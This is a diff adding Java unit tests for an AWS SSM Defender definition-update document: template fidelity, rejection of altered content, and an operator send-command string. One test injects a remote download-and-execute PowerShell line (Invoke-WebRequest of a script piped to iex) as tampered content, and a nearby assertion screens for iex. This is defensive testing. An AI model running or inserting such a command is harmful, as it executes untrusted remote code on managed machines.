@@ -66,4 +66,34 @@ class DefenderUpdateDocumentTest {
                 + " 'InternalDefinitionUpdateServer|MicrosoftUpdateServer|MMPC'"), lines.toString());
         assertTrue(lines.stream().noneMatch(l -> l.contains("Invoke-Expression") || l.contains("iex ")));
     }
+
+    /** What G4 trusts is what the template deploys: the packaged copy is the template's content, value for value. */
+    @Test
+    void thePackagedCopyIsTheTemplatesDocument() {
+        assertEquals(CONTENT, UpdateDocument.deployed());
+        assertTrue(UpdateDocument.isDeployed(CONTENT.toString()));
+        assertEquals("Replace", Template.load().resources("AWS::SSM::Document").get("DefenderUpdateDocument")
+                .path("UpdateMethod").asText(), "version 1 is the deployed content only if new content replaces it");
+    }
+
+    @Test
+    void anyOtherContentIsNotTheDeployedDocument() {
+        var changed = UpdateDocument.deployed();
+        ((com.fasterxml.jackson.databind.node.ArrayNode) changed.path("mainSteps").get(0).path("inputs")
+                .path("runCommand")).add("Invoke-WebRequest https://example.com/x.ps1 | iex");
+        assertFalse(UpdateDocument.isDeployed(changed.toString()));
+        assertFalse(UpdateDocument.isDeployed(null));
+        assertFalse(UpdateDocument.isDeployed("schemaVersion: '2.2'"), "YAML is not the deployed JSON");
+        assertFalse(UpdateDocument.isDeployed(CONTENT + " {}"), "one JSON value only");
+    }
+
+    /** An operator pastes the command an alert gives: the share path reaches the CLI as JSON, whole. */
+    @Test
+    void theUpdateCommandInAnAlertCarriesTheParametersAsJson() {
+        assertEquals("aws ssm send-command --document-name guardrails-defender-update --document-version 1"
+                + " --instance-ids mi-0123456789abcdef0 --parameters"
+                + " '{\"SharePath\":[\"\\\\\\\\fs01\\\\defs$\"],\"Source\":[\"FileShares\"]}'",
+                DefenderRules.sendCommand("mi-0123456789abcdef0", "guardrails-defender-update",
+                        Map.of("Source", List.of("FileShares"), "SharePath", List.of("\\\\fs01\\defs$"))));
+    }
 }
